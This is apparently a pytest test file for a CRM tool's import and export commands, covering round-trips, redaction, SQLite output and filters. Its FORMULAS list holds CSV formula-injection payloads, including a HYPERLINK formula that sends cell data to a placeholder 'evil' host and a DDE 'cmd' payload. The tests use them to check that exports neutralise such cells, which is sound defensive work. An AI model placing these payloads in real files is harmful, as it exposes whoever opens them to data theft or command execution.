import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest

from crmcli.exchange.columns import KINDS
from crmcli.model.words import plural
from tests.exchange.conftest import Desk
from tests.transcript_runner import Shell

FORMULAS = (
    '=HYPERLINK("http://evil/?x="&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=1",
)


def do(shell: Shell, line: str, rc: int = 0) -> str:
    code, text = shell.do(line)
    assert code == rc, text
    return text


def empty_book(home: Path) -> Shell:
    """A prompt in a book without a record."""
    other = Shell(home, home)
    do(other, "crm init other --no-git --currency TWD --rep mei")
    other.folder = home / "other"
    (other.folder / "reps" / "mei.yaml").unlink()
    return other


def test_a_complete_export_read_into_an_empty_book_gives_the_same_records(shell: Shell) -> None:
    do(shell, "crm export --to yaml -o ../book.yaml")
    other = empty_book(shell.home)
    assert "taken a complete export" in do(other, "crm import ../book.yaml")
    do(other, "crm export --to yaml -o ../again.yaml")
    assert (shell.home / "again.yaml").read_bytes() == (shell.home / "book.yaml").read_bytes()
    assert "Nothing changed" in do(other, "crm import ../book.yaml")
    for folder in ("reps", "customers", "promises", "tasks"):
        ids = [sorted(p.stem for p in (s.folder / folder).rglob("*.yaml")) for s in (shell, other)]
        assert ids[0] == ids[1]


def test_a_complete_document_fills_and_overwrites_like_any_row(desk: Desk) -> None:
    desk.run('crm customer add "Acme" --tier A -q')
    page = "---\nrecord: customer\nid: acme\nname: Acme\ntier: B\nregion: Taipei\ncontacts:\n- id: lee\n  name: Ann Lee\n"
    said = desk.take(page, name="a.yaml")
    assert "1 record changed" in said
    assert "tier 1" in said
    customer = desk.row("customer")
    assert (customer["tier"], customer["region"]) == ("A", "Taipei")
    assert desk.row("contact")["name"] == "Ann Lee"
    desk.take(page, "--overwrite", name="a.yaml")
    assert desk.row("customer")["tier"] == "B"


@pytest.mark.parametrize(
    ("page", "what"),
    [
        ("---\nrecord: deal\nid: acme\nstage: won\n", "'acme' is no id of a deal"),
        ("---\nrecord: deal\nid: d-00000001\n", "'stage' is missing"),
        ("---\nrecord: customer\nid: acme\nname: A\nkind: house\n", "kind"),
    ],
)
def test_a_document_that_is_no_record_is_a_bad_row(desk: Desk, page: str, what: str) -> None:
    said = desk.take(page, name="a.yaml", rc=4)
    assert "a.yaml:1: " in said
    assert what in said


@pytest.mark.parametrize("form", ["csv", "tsv", "json", "jsonl"])
def test_every_kind_read_back_changes_nothing(shell: Shell, form: str) -> None:
    before = {p: p.read_bytes() for p in shell.folder.glob("[a-z]*/**/*.*")}
    (shell.home / "out").mkdir()
    do(shell, f"crm export --to {form} -o ../out")
    for kind in KINDS:
        assert "Nothing changed" in do(
            shell, f"crm import ../out/{plural(kind)}.{form} --as {kind}"
        )
    assert before == {p: p.read_bytes() for p in before}


def test_tables_read_into_an_empty_book_give_the_same_fields(shell: Shell) -> None:
    (shell.home / "out").mkdir()
    do(shell, "crm export --to csv -o ../out")
    other = empty_book(shell.home)
    do(other, "crm import " + " ".join(f"../out/{plural(kind)}.csv" for kind in KINDS))
    for kind in KINDS:
        ids = [
            [row["id"] for row in json.loads(do(s, f"crm export {kind} --to json -q"))]
            for s in (shell, other)
        ]
        assert sorted(ids[0]) == sorted(ids[1])


def test_cells_that_a_spreadsheet_would_run_are_guarded_and_come_back(desk: Desk) -> None:
    rows = [{"company": f"C{n}", "industry": text} for n, text in enumerate(FORMULAS)]
    desk.take(json.dumps(rows), name="a.json", options="--as customer")
    before = [c["industry"] for c in desk.rows("customer")]
    said = desk.run("crm export customer -o c.csv")
    assert "a spreadsheet would run" in said
    text = (desk.shell.folder / "c.csv").read_text()
    cells = [row["industry"] for row in csv.DictReader(io.StringIO(text))]
    assert all(cell.startswith("'") for cell in cells)
    assert "Nothing changed" in desk.run("crm import c.csv")
    desk.run("crm export customer -o raw.csv --raw")
    raw = csv.DictReader(io.StringIO((desk.shell.folder / "raw.csv").read_text()))
    assert [row["industry"] for row in raw] == before


def test_phones_and_numbers_are_not_guarded(desk: Desk) -> None:
    desk.take("name,company,phone\nAnn,Acme,+886 2 2345 6789\n")
    desk.run("crm export contact -o c.csv --excel")
    data = (desk.shell.folder / "c.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Nothing changed" in desk.run("crm import c.csv")
    desk.run("crm export contact -o plain.csv")
    assert ",+886 2 2345 6789," in (desk.shell.folder / "plain.csv").read_text()


def test_filters_choose_and_are_refused_where_there_is_no_such_field(shell: Shell) -> None:
    rows = json.loads(do(shell, "crm export promise --customer acme --to json"))
    assert rows
    assert {row["customer"] for row in rows} == {"acme-battery"}
    assert "a rep has no customer" in do(shell, "crm export rep --customer acme --to json", rc=2)
    (shell.home / "out").mkdir()
    do(shell, "crm export --customer acme --to csv -o ../out")
    names = {path.stem for path in (shell.home / "out").iterdir()}
    assert "reps" not in names
    assert {"customers", "deals", "interactions"} <= names
    assert "not one of" in do(shell, "crm export promise --status lost --to json", rc=2)


def test_archived_records_are_handed_over_too(shell: Shell) -> None:
    do(shell, "crm customer archive acme")
    rows = json.loads(
        do(shell, "crm export customer --customer acme-battery --to json").splitlines()[0]
    )
    assert rows[0]["status"] == "archived"


def test_several_kinds_need_a_folder(shell: Shell) -> None:
    assert "several kinds go into a folder" in do(shell, "crm export --to csv", rc=2)
    assert "no folder '../none'" in do(shell, "crm export --to csv -o ../none", rc=1)
    assert "in which form?" in do(shell, "crm export customer", rc=2)
    assert "not one of" in do(shell, "crm export customer --to xml", rc=2)
    do(shell, "crm export customer --to json -o customers.sub", rc=0)
    assert "the book's own files" in do(
        shell, "crm export customer --to json -o customers/x.json", rc=1
    )


@pytest.mark.parametrize("form", ["csv", "tsv", "json", "jsonl", "yaml"])
def test_redacted_fields_are_blank_everywhere_and_that_is_said(shell: Shell, form: str) -> None:
    kind = "customer" if form == "yaml" else "contact"
    said = do(shell, f"crm export {kind} --redact email,phone --to {form}")
    assert said.startswith("redacted: email, phone\n")
    assert "chen@acme.example" not in said
    assert "0223456789" not in said
    assert "陳美玲" in said


def test_redaction_reaches_the_history_and_refuses_what_a_record_needs(shell: Shell) -> None:
    assert not re.search(r"\bowner:", do(shell, "crm export customer --redact owner --to yaml"))
    assert "cannot be read" in do(shell, "crm export deal --redact stage --to yaml", rc=2)
    said = do(shell, "crm export contact --redact emial --to csv", rc=2)
    assert "Did you mean 'email'?" in said


def test_the_whole_book_as_tables(shell: Shell) -> None:
    do(shell, "crm export --to sqlite -o ../book.sqlite --redact email,owner")
    data = (shell.home / "book.sqlite").read_bytes()
    assert b"chen@acme.example" not in data
    connection = sqlite3.connect(shell.home / "book.sqlite")
    tables = {
        row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
    }
    assert tables == {
        "book",
        "reps",
        "customers",
        "contacts",
        "consents",
        "deals",
        "promises",
        "tasks",
        "interactions",
        "history",
        "conflicts",
    }
    assert connection.execute("SELECT currency FROM book").fetchone() == ("TWD",)
    assert connection.execute("SELECT count(owner), count(*) > 10 FROM customers").fetchone() == (
        0,
        1,
    )
    lines = "SELECT count(value), count(*) > 10 FROM history WHERE field = 'owner'"
    assert connection.execute(lines).fetchone() == (0, 1)
    assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    connection.close()
    assert "the whole book" in do(shell, "crm export deal --to sqlite -o ../x.db", rc=2)
    assert "goes into a file" in do(shell, "crm export --to sqlite", rc=2)


def test_keys_that_crm_does_not_know_are_counted(shell: Shell) -> None:
    path = shell.folder / "customers" / "acme-battery.yaml"
    path.write_text(f"{path.read_text()}colour: red\n")
    assert "1 keys or columns that crm does not know" in do(
        shell, "crm export customer -o ../c.yaml"
    )
